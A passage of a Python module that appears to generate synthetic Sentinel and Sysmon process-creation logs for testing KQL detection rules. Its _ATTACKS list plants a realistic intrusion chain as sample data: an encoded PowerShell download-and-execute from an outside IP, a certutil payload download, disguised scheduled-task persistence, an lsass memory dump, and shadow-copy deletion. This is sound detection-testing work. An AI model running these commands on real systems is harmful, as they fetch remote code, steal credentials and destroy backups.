            "TargetProcessSHA256": "" if sec else r["sha256"],
            "TargetProcessIMPHASH": r["imphash"] if sysm else "",
            "HashType": "" if sec else "SHA256",
            "ActingProcessName": r["parent"],
            "ActingProcessCommandLine": "" if sec else r["parent_cmd"],
            "ActingProcessFilename": r["parent_base"].lower() if mde else "",
            "ActingProcessSHA256": r["psha256"] if mde else "",
            "ActingProcessSHA1": r["psha1"] if mde else "",
            "ActingProcessMD5": r["pmd5"] if mde else "",
        }


_CATALOG: _Catalog | None = None


def _catalog() -> _Catalog:
    global _CATALOG
    if _CATALOG is None:
        _CATALOG = _Catalog()
    return _CATALOG


# --------------------------------------------------------------------------------------------------------------
# normalized_process_events
# --------------------------------------------------------------------------------------------------------------

_SRC_SECURITY, _SRC_SYSMON, _SRC_MDE, _SRC_SYSMON_OLD = 0, 1, 2, 3
_SRC_WEIGHTS = np.array([0.5, 0.35, 0.15])


def normalized_process_events(n: int, seed: int = 0, match_rate: float = 0.01,
                              near_miss_rate: float | None = None, columns: list[str] | None = None) -> pa.Table:
    """``n`` rows shaped like ASIM ``imProcessCreate`` output (see the module docstring).

    About ``match_rate * n`` rows match the seed rule and about ``near_miss_rate * n`` (default: ``match_rate``)
    are near misses; the exact counts are in the schema metadata. ``columns`` selects (and orders) a subset of
    :data:`ASIM_PROCESS_COLUMNS` (e.g. :data:`RULE_COLUMNS`); a column's values do not depend on the subset.
    """
    if n < 0:
        raise ValueError("n must be >= 0")
    near_miss_rate = match_rate if near_miss_rate is None else near_miss_rate
    if match_rate < 0 or near_miss_rate < 0 or match_rate + near_miss_rate > 1:
        raise ValueError("need 0 <= match_rate, near_miss_rate and match_rate + near_miss_rate <= 1")
    if columns is None:
        names = [name for name, _ in ASIM_PROCESS_COLUMNS]
    else:
        names = list(columns)
        unknown = [c for c in names if c not in _TYPES]
        if unknown:
            raise ValueError(f"not ASIM process columns: {unknown}")
    cat = _catalog()
    n_ws = int(min(2000, max(50, n // 2500)))
    hosts = _hosts(n_ws)
    ctx = _Org(hosts)
    span_us = 7 * 86400 * 1_000_000
    start_us = int((ANCHOR - datetime(1970, 1, 1)).total_seconds() * 1_000_000) - span_us
    n_chunks = max(1, -(-n // CHUNK_ROWS))

    def one(c: int):
        m = min(CHUNK_ROWS, n - c * CHUNK_ROWS) if n else 0
        t0 = start_us + span_us * c // n_chunks
        t1 = start_us + span_us * (c + 1) // n_chunks
        return _chunk((seed, c), m, t0, t1, match_rate, near_miss_rate, cat, ctx, names)

    if n_chunks > 1:  # pyarrow and numpy release the GIL: two chunks at a time
        with ThreadPoolExecutor(max_workers=2) as pool:
            results = list(pool.map(one, range(n_chunks)))
    else:
        results = [one(0)]
    chunks = [r[0] for r in results]
    matches = sum(r[1] for r in results)
    near = sum(r[2] for r in results)
    fields = [pa.field(name, _ARROW[_TYPES[name]]) for name in names]
    meta = {
        b"kqlhunt.synth.seed": str(seed).encode(),
        b"kqlhunt.synth.matches": str(matches).encode(),
        b"kqlhunt.synth.near_misses": str(near).encode(),
    }
    schema = pa.schema(fields, metadata=meta)
    arrays = [pa.chunked_array([ch[name] for ch in chunks], type=f.type) for name, f in zip(names, fields)]
    return pa.Table.from_arrays(arrays, schema=schema)


class _Org:
    """Users and hosts, with lookup tables indexed by ``principal * 4 + source`` (a principal is a user, or a
    host's SYSTEM account) and ``host * 4 + source``."""

    def __init__(self, hosts: list[str]):
        self.hosts = hosts
        nh = len(hosts)
        self.is_server = np.array([h in _SERVERS for h in hosts])
        self.host_weight = np.where(self.is_server, 10.0, 1.0)  # a server logs much more than a workstation
        users = USERS + ADMINS
        self.users = users
        self.n_regular = len(USERS)
        self.user_short = pa.array(users, pa.string())
        # every workstation has a primary user; servers are used by admins
        self.primary_user = np.array([
            len(USERS) + (i % len(ADMINS)) if self.is_server[i] else (i * 7) % len(USERS) for i in range(nh)],
            dtype=np.int32)
        pt: dict[str, list[str]] = {}
        for i, u in enumerate(users):
            for src in range(4):
                for k, v in self._principal(src, user=u, rid=i).items():
                    pt.setdefault(k, []).append(v)
        for h in hosts:
            for src in range(4):
                for k, v in self._principal(src, host=h).items():
                    pt.setdefault(k, []).append(v)
        self.ptables = {k: pa.array(v, pa.string()) for k, v in pt.items()}
        ht: dict[str, list[str]] = {}
        for h in hosts:
            for src in range(4):
                mde = src == _SRC_MDE
                fqdn = f"{h}.{DNS_DOMAIN}"
                vals = {
                    "Dvc": h.lower() if mde else fqdn,
                    "DvcDomain": DNS_DOMAIN if mde else "",
                    "DvcDomainType": "FQDN" if mde else "",
                    "DvcFQDN": fqdn if mde else "",
                    "DvcId": _digest("sha1", "mde" + h) if mde else (
                        _guid_of("agent" + h) if src == _SRC_SECURITY else ""),
                    "DvcIdType": "MDEid" if mde else "",
                    "_ResourceId": "" if (mde or h.startswith("WKS-")) else (
                        f"/subscriptions/{SUBSCRIPTION}/resourcegroups/rg-endpoints/providers/microsoft.compute/"
                        f"virtualmachines/{h.lower()}"),
                }
                for k, v in vals.items():
                    ht.setdefault(k, []).append(v)
        self.htables = {k: pa.array(v, pa.string()) for k, v in ht.items()}

    @staticmethod
    def _principal(src: int, user: str | None = None, rid: int = 0, host: str | None = None) -> dict[str, str]:
        sec, mde = src == _SRC_SECURITY, src == _SRC_MDE
        old = src == _SRC_SYSMON_OLD
        system = user is None
        sid = "S-1-5-18" if system else _sid(1104 + rid)
        logon = "0x3e7" if system else hex(0x2A0000 + 7919 * rid)
        if sec:
            actor = f"{DOMAIN}\\{host}$" if system else f"{DOMAIN}\\{user}"
            target = "Nobody"  # 4688 TargetUserName '-', TargetUserSid S-1-0-0 -> KnownSIDs lookup
        elif mde:
            actor = target = "nt authority\\system" if system else f"{DOMAIN.lower()}\\{user}"
        else:
            target = "NT AUTHORITY\\SYSTEM" if system else f"{DOMAIN}\\{user}"
            actor = "" if old else target
        return {
            "ActorUsername": actor,
            "TargetUsername": target,
            "ActorUserId": "" if not (sec or mde) else sid,
            "ActorUserIdType": "SID" if (sec or mde) else "",
            "ActorSessionId": logon if (sec or mde) else "",
            "ActorUserType": ("Machine" if system else "Regular") if sec else "",
            "TargetUserId": "S-1-0-0" if sec else (sid if mde else ""),
            "TargetUserIdType": "SID" if (sec or mde) else "",
            "TargetUserSessionId": "0x0" if sec else ("" if mde else logon),
            "TargetProcessCurrentDirectory": "" if (sec or mde) else (SYS32 if system else f"C:\\Users\\{user}\\"),
            "ParentProcessName": ("wininit.exe" if system else "userinit.exe") if mde else "",
        }


def _guid_of(text: str) -> str:
    h = _digest("md5", text)
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:32]}"


_CONST: dict = {}


def _const(key, m: int, value, typ: pa.DataType) -> pa.Array:
    """A constant column chunk; one buffer of CHUNK_ROWS is shared by every chunk and every table."""
    k = (key, value, typ)
    if k not in _CONST:
        _CONST[k] = pa.repeat(pa.scalar(value, typ), CHUNK_ROWS)
    return _CONST[k].slice(0, m)


def _chunk(seed_key, m, t0, t1, match_rate, near_rate, cat: _Catalog, org: _Org, wanted: list[str]):
    rng = np.random.default_rng([*seed_key, 0])
    # ---- which program, which source, which host/user -------------------------------------------------------
    entry = _weighted(rng, cat.weights, m)
    u = rng.random(m)
    is_match = u < match_rate
    is_near = (u >= match_rate) & (u < match_rate + near_rate)
    n_match, n_near = int(is_match.sum()), int(is_near.sum())
    first_planted = cat.n_benign
    entry[is_match] = first_planted + rng.integers(0, _N_MATCH_VARIANTS, n_match)
    entry[is_near] = first_planted + _N_MATCH_VARIANTS + rng.integers(0, len(PLANTED) - _N_MATCH_VARIANTS, n_near)
    no_actor_planted = cat.np_no_actor[entry]

    source = _weighted(rng, _SRC_WEIGHTS, m).astype(np.int32)
    source[no_actor_planted] = _SRC_SYSMON
    # Sysmon versions before ParentUser existed leave ActorUsername empty: source code 3
    old_sysmon = (source == _SRC_SYSMON) & (rng.random(m) < 0.2) & ~is_match
    source[old_sysmon | no_actor_planted] = _SRC_SYSMON_OLD
    sec = source == _SRC_SECURITY

    host = _weighted(rng, org.host_weight, m)
    user = org.primary_user[host].copy()
    roam = rng.random(m) < 0.08
    user[roam] = rng.integers(0, len(org.users), int(roam.sum()))
    runs_as = cat.np_runs_as[entry]
    admin = runs_as == 2
    user[admin] = org.n_regular + rng.integers(0, len(ADMINS), int(admin.sum()))
    principal = np.where(runs_as == 1, len(org.users) + host, user)

    eidx = entry * 4 + source
    pidx = principal * 4 + source
    hidx = host * 4 + source

    def R(name: str) -> np.random.Generator:  # one stream per column: a column's values don't depend on others
        return np.random.default_rng([*seed_key, zlib.crc32(name.encode())])

    def lazy(f):
        box: list = []
        return lambda: box[0] if box else (box.append(f()) or box[0])

    time = lazy(lambda: pa.array(np.sort(R("TimeGenerated").integers(t0, max(t0 + 1, t1), m, dtype=np.int64))
                                 .astype("datetime64[us]"), type=pa.timestamp("us")))
    num = lazy(lambda: _int_strings(R("num").integers(1000, 99999, m)))
    sysm = (source == _SRC_SYSMON) | (source == _SRC_SYSMON_OLD)
    mde = source == _SRC_MDE

    E = lambda key, val, typ=pa.string(): _const(key, m, val, typ)  # noqa: E731
    C = lambda name: cat.tables[name].take(pa.array(eidx))  # noqa: E731
    P = lambda name: org.ptables[name].take(pa.array(pidx))  # noqa: E731
    H = lambda name: org.htables[name].take(pa.array(hidx))  # noqa: E731

    sha256 = lazy(lambda: C("TargetProcessSHA256"))
    dvc = lazy(lambda: H("Dvc"))
    target_user = lazy(lambda: P("TargetUsername"))
    cmdline = lazy(lambda: _slotted(cat, "cmd", entry, user, num(), org))
    image = lazy(lambda: _slotted(cat, "image", entry, user, num(), org))
    thunks = {
        "TimeGenerated": time,
        "EventStartTime": time,
        "EventEndTime": time,
        "Type": lambda: C("Type"),
        "_ResourceId": lambda: H("_ResourceId"),
        "EventCount": lambda: E("one", 1, pa.int32()),
        "EventType": lambda: E("ProcessCreated", "ProcessCreated"),
        "EventResult": lambda: E("Success", "Success"),
        "EventOriginalUid": lambda: _scatter(m, [(sec, _guids(R("EventOriginalUid"), int(sec.sum()))),
                                         (mde, _int_strings(R("EventOriginalUid").integers(1000, 900000, int(mde.sum()))))]),
        "EventOriginalType": lambda: C("EventOriginalType"),
        "EventProduct": lambda: C("EventProduct"),
        "EventVendor": lambda: E("Microsoft", "Microsoft"),
        "EventSchema": lambda: E("ProcessEvent", "ProcessEvent"),
        "EventSchemaVersion": lambda: C("EventSchemaVersion"),
        "Dvc": dvc,
        "DvcHostname": dvc,
        "DvcDomain": lambda: H("DvcDomain"),
        "DvcDomainType": lambda: H("DvcDomainType"),
        "DvcFQDN": lambda: H("DvcFQDN"),
        "DvcId": lambda: H("DvcId"),
        "DvcIdType": lambda: H("DvcIdType"),
        "DvcOs": lambda: E("Windows", "Windows"),
        "ActorUsername": lambda: P("ActorUsername"),
        "ActorUsernameType": lambda: E("Windows", "Windows"),
        "ActorUserId": lambda: P("ActorUserId"),
        "ActorUserIdType": lambda: P("ActorUserIdType"),
        "ActorSessionId": lambda: P("ActorSessionId"),
        "ActorUserType": lambda: P("ActorUserType"),
        "TargetUsername": target_user,
        "User": target_user,
        "TargetUsernameType": lambda: E("Windows", "Windows"),
        "TargetUserId": lambda: P("TargetUserId"),
        "TargetUserIdType": lambda: P("TargetUserIdType"),
        "TargetUserSessionId": lambda: P("TargetUserSessionId"),
        "TargetUserSessionGuid": lambda: _scatter(m, [(sysm, _guids(R("TargetUserSessionGuid"), int(sysm.sum())))]),
        "TargetProcessName": image,
        "Process": image,
        "TargetProcessCommandLine": cmdline,
        "CommandLine": cmdline,
        "TargetProcessId": lambda: _int_strings(R("pid").integers(50, 12000, m) * 4),
        "TargetProcessGuid": lambda: _scatter(m, [(sysm, _guids(R("TargetProcessGuid"), int(sysm.sum())))]),
        "TargetProcessFilename": lambda: C("TargetProcessFilename"),
        "TargetProcessFileCompany": lambda: C("TargetProcessFileCompany"),
        "TargetProcessFileDescription": lambda: C("TargetProcessFileDescription"),
        "TargetProcessFileProduct": lambda: C("TargetProcessFileProduct"),
        "TargetProcessFileVersion": lambda: C("TargetProcessFileVersion"),
        "TargetProcessCurrentDirectory": lambda: P("TargetProcessCurrentDirectory"),
        "TargetProcessIntegrityLevel": lambda: C("TargetProcessIntegrityLevel"),
        "TargetProcessTokenElevation": lambda: C("TargetProcessTokenElevation"),
        "TargetProcessMD5": lambda: C("TargetProcessMD5"),
        "TargetProcessSHA1": lambda: C("TargetProcessSHA1"),
        "TargetProcessSHA256": sha256,
        "TargetProcessIMPHASH": lambda: C("TargetProcessIMPHASH"),
        "Hash": sha256,
        "HashType": lambda: C("HashType"),
        "ActingProcessName": lambda: C("ActingProcessName"),
        "ActingProcessCommandLine": lambda: C("ActingProcessCommandLine"),
        "ActingProcessId": lambda: _int_strings(R("ppid").integers(50, 12000, m) * 4),
        "ActingProcessGuid": lambda: _scatter(m, [(sysm, _guids(R("ActingProcessGuid"), int(sysm.sum())))]),
        "ActingProcessFilename": lambda: C("ActingProcessFilename"),
        "ActingProcessSHA256": lambda: C("ActingProcessSHA256"),
        "ActingProcessSHA1": lambda: C("ActingProcessSHA1"),
        "ActingProcessMD5": lambda: C("ActingProcessMD5"),
        "ParentProcessName": lambda: P("ParentProcessName"),
        "ParentProcessId": lambda: _scatter(m, [(mde, _int_strings(R("ParentProcessId").integers(50, 2000, int(mde.sum())) * 4))]),
    }
    cols: dict[str, pa.Array] = {}
    for name in wanted:
        if name in thunks:
            cols[name] = thunks[name]()
        else:
            kt = _TYPES[name]
            cols[name] = E("empty", "" if kt == "string" else None, _ARROW[kt])
    return cols, n_match, n_near


def _scatter(m: int, parts: list[tuple[np.ndarray, pa.Array]]) -> pa.Array:
    """A string column that is '' except where each mask is set; there it takes that part's values in order."""
    idx = np.zeros(m, dtype=np.int32)
    values = [pa.array([""], pa.string())]
    base = 1
    for mask, vals in parts:
        k = int(mask.sum())
        idx[mask] = base + np.arange(k, dtype=np.int32)
        values.append(vals)
        base += k
    return pa.concat_arrays(values).take(pa.array(idx))


def _slotted(cat: "_Catalog", what: str, entry: np.ndarray, user: np.ndarray, num: pa.Array, org: "_Org") -> pa.Array:
    """Fill the {user}/{n} slots of the catalog's templates, joining strings only on rows that have slots."""
    static = cat.tables[what + "_static"]
    has = cat.np_has_slot[what][entry]
    rows = np.nonzero(has)[0].astype(np.int32)
    k = len(rows)
    if k == 0:
        return static.take(pa.array(entry))
    e = entry[rows]
    u = pa.array(user[rows])
    nums = num.take(pa.array(rows))
    slot_src = pa.concat_arrays([pa.array([""], pa.string()), org.user_short.cast(pa.string()), nums])
    parts = []
    for i in range(3):
        parts.append(cat.tables[f"{what}_lit{i}"].take(pa.array(e)))
        if i < 2:
            kind = cat.np_kind[what][i][e]
            sidx = np.where(kind == 1, 1 + user[rows], np.where(kind == 2, 1 + len(org.users) + np.arange(k), 0))
            parts.append(slot_src.take(pa.array(sidx.astype(np.int32))))
    del u
    joined = _join(*parts)
    idx = np.where(has, len(static) + np.cumsum(has) - 1, entry).astype(np.int32)
    return pa.concat_arrays([static, joined]).take(pa.array(idx))


# --------------------------------------------------------------------------------------------------------------
# sentinel_tables: a small raw workspace
# --------------------------------------------------------------------------------------------------------------

_SECURITY_EVENT_COLUMNS = """
TenantId:string TimeGenerated:datetime SourceSystem:string Account:string AccountType:string Computer:string
EventSourceName:string Channel:string Task:int Level:string EventData:string EventID:int Activity:string
SourceComputerId:string EventOriginId:string MG:string TimeCollected:datetime ManagementGroupName:string
AccessMask:string AccountDomain:string AccountExpires:string AccountName:string AccountSessionIdentifier:string
AdditionalInfo:string AdditionalInfo2:string AllowedToDelegateTo:string Attributes:string AuditPolicyChanges:string
AuditsDiscarded:int AuthenticationLevel:int AuthenticationPackageName:string AuthenticationProvider:string
AuthenticationServer:string AuthenticationService:int AuthenticationType:string AzureDeploymentID:string
CACertificateHash:string CalledStationID:string CallerProcessId:string CallerProcessName:string
CallingStationID:string CAPublicKeyHash:string CategoryId:string CertificateDatabaseHash:string ClassId:string
ClassName:string ClientAddress:string ClientIPAddress:string ClientName:string CommandLine:string
CompatibleIds:string DCDNSName:string DeviceDescription:string DeviceId:string DisplayName:string Disposition:string
DomainBehaviorVersion:string DomainName:string DomainPolicyChanged:string DomainSid:string EAPType:string
ElevatedToken:string ErrorCode:int ExtendedQuarantineState:string FailureReason:string FileHash:string
FilePath:string FilePathNoUser:string Filter:string ForceLogoff:string Fqbn:string
FullyQualifiedSubjectMachineName:string FullyQualifiedSubjectUserName:string GroupMembership:string HandleId:string
HardwareIds:string HomeDirectory:string HomePath:string InterfaceUuid:string IpAddress:string IpPort:string
KeyLength:int LmPackageName:string LocationInformation:string LockoutDuration:string LockoutObservationWindow:string
LockoutThreshold:string LoggingResult:string LogonGuid:string LogonHours:string LogonID:string
LogonProcessName:string LogonType:int LogonTypeName:string MachineAccountQuota:string MachineInventory:string
MachineLogon:string MandatoryLabel:string MaxPasswordAge:string MemberName:string MemberSid:string
MinPasswordAge:string MinPasswordLength:string MixedDomainMode:string NASIdentifier:string NASIPv4Address:string
NASIPv6Address:string NASPort:string NASPortType:string NetworkPolicyName:string NewDate:string NewMaxUsers:string
NewProcessId:string NewProcessName:string NewRemark:string NewShareFlags:string NewTime:string NewUacValue:string
NewValue:string NewValueType:string ObjectName:string ObjectServer:string ObjectType:string ObjectValueName:string
OemInformation:string OldMaxUsers:string OldRemark:string OldShareFlags:string OldUacValue:string OldValue:string
OldValueType:string OperationType:string PackageName:string ParentProcessName:string PasswordHistoryLength:string
PasswordLastSet:string PasswordProperties:string PreviousDate:string PreviousTime:string PrimaryGroupId:string
PrivateKeyUsageCount:string PrivilegeList:string Process:string ProcessId:string ProcessName:string
ProfilePath:string Properties:string ProtocolSequence:string ProxyPolicyName:string QuarantineHelpURL:string
QuarantineSessionID:string QuarantineSessionIdentifier:string QuarantineState:string
QuarantineSystemHealthResult:string RelativeTargetName:string RemoteIpAddress:string RemotePort:string
Requester:string RequestId:string RestrictedAdminMode:string RowsDeleted:string SamAccountName:string
ScriptPath:string SecurityDescriptor:string ServiceAccount:string ServiceFileName:string ServiceName:string
ServiceStartType:int ServiceType:string SessionName:string ShareLocalPath:string ShareName:string SidHistory:string
Status:string StorageAccount:string SubcategoryGuid:string SubcategoryId:string Subject:string
SubjectAccount:string SubjectDomainName:string SubjectKeyIdentifier:string SubjectLogonId:string
SubjectMachineName:string SubjectMachineSID:string SubjectUserName:string SubjectUserSid:string SubStatus:string
TableId:string TargetAccount:string TargetDomainName:string TargetInfo:string TargetLinkedLogonId:string
TargetLogonGuid:string TargetLogonId:string TargetOutboundDomainName:string TargetOutboundUserName:string
TargetServerName:string TargetSid:string TargetUser:string TargetUserName:string TargetUserSid:string
TemplateContent:string TemplateDSObjectFQDN:string TemplateInternalName:string TemplateOID:string
TemplateSchemaVersion:string TemplateVersion:string TokenElevationType:string TransmittedServices:string
UserAccountControl:string UserParameters:string UserPrincipalName:string UserWorkstations:string VendorIds:string
VirtualAccount:string Workstation:string WorkstationName:string _ResourceId:string _SubscriptionId:string Type:string
"""

_EVENT_COLUMNS = """
TenantId:string TimeGenerated:datetime SourceSystem:string Source:string EventLog:string Computer:string
EventLevel:int EventLevelName:string EventID:int EventCategory:int UserName:string RenderedDescription:string
ParameterXml:string EventData:string Message:string MG:string ManagementGroupName:string AzureDeploymentID:string
Role:string _ResourceId:string _SubscriptionId:string Type:string
"""


def _spec(text: str) -> list[tuple[str, str]]:
    return [(c.split(":")[0], c.split(":")[1]) for c in text.split()]


def _xml_text(v: str) -> str:
    return v.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


#: Attacks in the demo workspace: (minutes after the start, host, user, parent image, image, command line, tag)
_ATTACKS = [
    (37, "WKS-0012", "erin", _EXPLORER, _CMD, '"C:\\Windows\\system32\\cmd.exe" ', "foothold"),
    (38, "WKS-0012", "erin", _CMD, SYS32 + "whoami.exe", "whoami /all", "discovery"),
    (39, "WKS-0012", "erin", _CMD, SYS32 + "net.exe", "net user /domain", "discovery"),
    (39, "WKS-0012", "erin", SYS32 + "net.exe", SYS32 + "net1.exe", "C:\\Windows\\system32\\net1 user /domain",
     "discovery"),
    (40, "WKS-0012", "erin", _CMD, SYS32 + "net.exe", 'net group "Domain Admins" /domain', "discovery"),
    (41, "WKS-0012", "erin", _CMD, SYS32 + "net.exe", "net user administrator /domain", "discovery"),
    (42, "WKS-0012", "erin", _CMD, SYS32 + "net.exe", 'net group "Enterprise Admins" /do', "discovery"),
    (55, "WKS-0012", "erin", _CMD, _PS,
     "powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUA"
     "bgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA4ADUALgAyADIANQAuADEAOQAuADcANwAvAGEA"
     "JwApAA==", "execution"),
    (61, "WKS-0012", "erin", _CMD, SYS32 + "certutil.exe",
     "certutil.exe -urlcache -split -f http://185.225.19.77/update.bin C:\\Users\\Public\\update.exe",
     "command-and-control"),
    (63, "WKS-0012", "erin", _CMD, SYS32 + "schtasks.exe",
     'schtasks /create /sc minute /mo 30 /tn "OneDrive Standalone Update" /tr "C:\\Users\\Public\\update.exe" /f',
     "persistence"),
    (95, "FS01", "admin.bob", _CMD, SYS32 + "rundll32.exe",
     "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 684 C:\\Windows\\Temp\\lsass.dmp full",
     "credential-access"),
    (131, "FS01", "admin.bob", _CMD, SYS32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", "impact"),
    (132, "FS01", "admin.bob", _CMD, SYS32 + "wbem\\WMIC.exe", "wmic shadowcopy delete", "impact"),
]


def sentinel_tables(seed: int = 0, hours: int = 4, workstations: int = 25, events_per_hour: int = 600,
                    start: datetime = datetime(2025, 3, 13, 8, 0, 0)) -> dict[str, pa.Table]:
    """A small raw Sentinel workspace: ``{"SecurityEvent": ..., "Event": ...}`` (see the module docstring).

    Servers log 4688 to ``SecurityEvent``; workstations run Sysmon (``Event`` table) and, for half of them, 4688 too.
    The attacks in :data:`_ATTACKS` (user/group discovery, encoded PowerShell, certutil download, schtasks
    persistence, comsvcs MiniDump of lsass, shadow copy deletion) are placed on their hosts.
    """
    rng = np.random.default_rng([seed, 0xD3E0])
    cat = _catalog()
    hosts = ["DC01", "FS01", "SQL01", "APP01"] + [f"WKS-{i:04d}" for i in range(1, workstations + 1)]
    n = hours * events_per_hour
    entries = _weighted(rng, cat.weights, n)
    host_idx = rng.integers(0, len(hosts), n)
    offs = np.sort(rng.integers(0, hours * 3600 * 1_000_000, n))
    events = []
    for i in range(n):  # small n: plain Python is fine and clearer here
        prog = cat.rows[entries[i]]
        h = hosts[host_idx[i]]
        is_server = not h.startswith("WKS-")
        if is_server and prog["runs_as"] == 0:
            user = ADMINS[int(rng.integers(0, len(ADMINS)))]
        else:
            user = USERS[(int(h[4:]) * 7) % len(USERS)] if not is_server else ADMINS[0]
        num = str(int(rng.integers(1000, 99999)))
        cmd = prog["cmd"].replace("{user}", user).replace("{n}", num)
        image = prog["image"].replace("{user}", user)
        events.append(dict(t=start + timedelta(microseconds=int(offs[i])), host=h, user=user,
                           system=prog["runs_as"] == 1, parent=prog["parent"], parent_cmd=prog["parent_cmd"],
                           image=image, cmd=cmd, prog=prog, tag=""))
    for minute, h, user, parent, image, cmd, tag in _ATTACKS:
        events.append(dict(t=start + timedelta(minutes=minute, seconds=int(rng.integers(0, 60))), host=h,
                           user=user, system=False, parent=parent, parent_cmd="cmd.exe" if parent == _CMD else parent,
                           image=image, cmd=cmd, prog=None, tag=tag))
    events.sort(key=lambda ev: ev["t"])

    sec_rows, sys_rows = [], []
    for ev in events:
        h = ev["host"]
        ws = h.startswith("WKS-")
        sysmon = ws
        security = (not ws) or int(h[4:]) % 2 == 0
        if sysmon:
            sys_rows.append(_sysmon_row(ev, rng))
        if security:
            sec_rows.append(_security_row(ev, rng))
    return {
        "SecurityEvent": _table(_spec(_SECURITY_EVENT_COLUMNS), sec_rows),
        "Event": _table(_spec(_EVENT_COLUMNS), sys_rows),
    }


def _table(spec: list[tuple[str, str]], rows: list[dict]) -> pa.Table:
    arrays, fields = [], []
    for name, kt in spec:
        typ = _ARROW[kt]
        default = "" if kt == "string" else None
        vals = [r.get(name, default) for r in rows]
        if kt == "dynamic":
            vals = [v if isinstance(v, str) or v is None else json.dumps(v) for v in vals]
        arrays.append(pa.array(vals, type=typ))
        fields.append(pa.field(name, typ))
    return pa.Table.from_arrays(arrays, schema=pa.schema(fields))


def _common(ev: dict, rng) -> dict:
    h = ev["host"]
    return {
        "TenantId": WORKSPACE_ID,
        "TimeGenerated": ev["t"] + timedelta(seconds=int(rng.integers(2, 90))),
        "SourceSystem": "OpsManager",
        "Computer": f"{h}.{DNS_DOMAIN}",
        "MG": "00000000-0000-0000-0000-000000000001",
        "ManagementGroupName": "AOI-" + WORKSPACE_ID,
        "_ResourceId": f"/subscriptions/{SUBSCRIPTION}/resourcegroups/rg-endpoints/providers/"
                       f"microsoft.compute/virtualmachines/{h.lower()}",
        "_SubscriptionId": SUBSCRIPTION,
    }


def _user_sid(user: str) -> str:
    all_users = USERS + ADMINS
    return _sid(1104 + all_users.index(user)) if user in all_users else _sid(1999)


def _security_row(ev: dict, rng) -> dict:
    h = ev["host"]
    system = ev["system"]
    subj_user, subj_dom = (f"{h}$", DOMAIN) if system else (ev["user"], DOMAIN)
    subj_sid = "S-1-5-18" if system else _user_sid(ev["user"])
    logon = "0x3e7" if system else hex(0x2A0000 + 7919 * ((USERS + ADMINS).index(ev["user"])
                                                          if ev["user"] in USERS + ADMINS else 1))
    new_pid = hex(int(rng.integers(50, 12000)) * 4)
    pid = hex(int(rng.integers(50, 12000)) * 4)
    admin = ev["user"] in ADMINS
    elev = "%%1936" if system else ("%%1937" if admin else "%%1938")
    label = "S-1-16-16384" if system else ("S-1-16-12288" if admin else "S-1-16-8192")
    data = {
        "SubjectUserSid": subj_sid, "SubjectUserName": subj_user, "SubjectDomainName": subj_dom,
        "SubjectLogonId": logon, "NewProcessId": new_pid, "NewProcessName": ev["image"],
        "TokenElevationType": elev, "ProcessId": pid, "CommandLine": ev["cmd"], "TargetUserSid": "S-1-0-0",
        "TargetUserName": "-", "TargetDomainName": "-", "TargetLogonId": "0x0",
        "ParentProcessName": ev["parent"], "MandatoryLabel": label,
    }
    xml = ('<EventData xmlns="http://schemas.microsoft.com/win/2004/08/events/event">'
           + "".join(f'<Data Name="{k}">{_xml_text(v)}</Data>' for k, v in data.items()) + "</EventData>")
    row = _common(ev, rng)
    row.update(data)
    row.update({
        "Account": f"{subj_dom}\\{subj_user}", "AccountType": "Machine" if system else "User",
        "EventSourceName": "Microsoft-Windows-Security-Auditing", "Channel": "Security", "Task": 13312,
        "Level": "8", "EventData": xml, "EventID": 4688, "Activity": "4688 - A new process has been created.",
        "SourceComputerId": _guid_of("agent" + h), "EventOriginId": _guid_of(f"{ev['t']}{ev['cmd']}{h}"),
        "TimeCollected": row["TimeGenerated"] + timedelta(seconds=int(rng.integers(1, 30))),
        "SubjectAccount": f"{subj_dom}\\{subj_user}", "TargetAccount": "-\\-",
        "Process": ev["image"].rsplit("\\", 1)[-1], "Type": "SecurityEvent",
    })
    return row


def _sysmon_row(ev: dict, rng) -> dict:
    h = ev["host"]
    system = ev["system"]
    user = "NT AUTHORITY\\SYSTEM" if system else f"{DOMAIN}\\{ev['user']}"
    prog = ev["prog"]
    image = ev["image"]
    base = image.rsplit("\\", 1)[-1]
    g = lambda: "{" + _guids(rng, 1)[0].as_py() + "}"  # noqa: E731
    md5, sha1, sha256, imp = (_digest("md5", image), _digest("sha1", image), _digest("sha256", image),
                              _digest("md5", "imp" + base.lower()))
    pguid = g()
    data = {
        "RuleName": "-",
        "UtcTime": ev["t"].strftime("%Y-%m-%d %H:%M:%S.") + f"{ev['t'].microsecond // 1000:03d}",
        "ProcessGuid": g(),
        "ProcessId": str(int(rng.integers(50, 12000)) * 4),
        "Image": image,
        "FileVersion": prog["version"] if prog else "10.0.19041.1 (WinBuild.160101.0800)",
        "Description": prog["description"] if prog else "",
        "Product": prog["product"] if prog else "Microsoft\u00ae Windows\u00ae Operating System",
        "Company": prog["company"] if prog else "Microsoft Corporation",
        "OriginalFileName": prog["original"] if prog else (base.upper() if base.lower().startswith("net")
                                                            else base),
        "CommandLine": ev["cmd"],
        "CurrentDirectory": SYS32 if system else f"C:\\Users\\{ev['user']}\\",
        "User": user,
        "LogonGuid": g(),
        "LogonId": "0x3e7" if system else hex(0x2A0000 + 7919 * ((USERS + ADMINS).index(ev["user"])
                                                                   if ev["user"] in USERS + ADMINS else 1)),
        "TerminalSessionId": "0" if system else "1",
        "IntegrityLevel": "System" if system else ("High" if ev["user"] in ADMINS else "Medium"),
        "Hashes": f"SHA1={sha1.upper()},MD5={md5.upper()},SHA256={sha256.upper()},IMPHASH={imp.upper()}",
        "ParentProcessGuid": pguid,
        "ParentProcessId": str(int(rng.integers(50, 12000)) * 4),
        "ParentImage": ev["parent"],
        "ParentCommandLine": ev["parent_cmd"],
        "ParentUser": user,
    }
    xml = ('<DataItem type="System.XmlData" time="' + ev["t"].strftime("%Y-%m-%dT%H:%M:%S.%f") + '0Z" '
           'sourceHealthServiceId="' + _guid_of("agent" + h) + '"><EventData '
           'xmlns="http://schemas.microsoft.com/win/2004/08/events/event">'
           + "".join(f'<Data Name="{k}">{_xml_text(v)}</Data>' for k, v in data.items())
           + "</EventData></DataItem>")
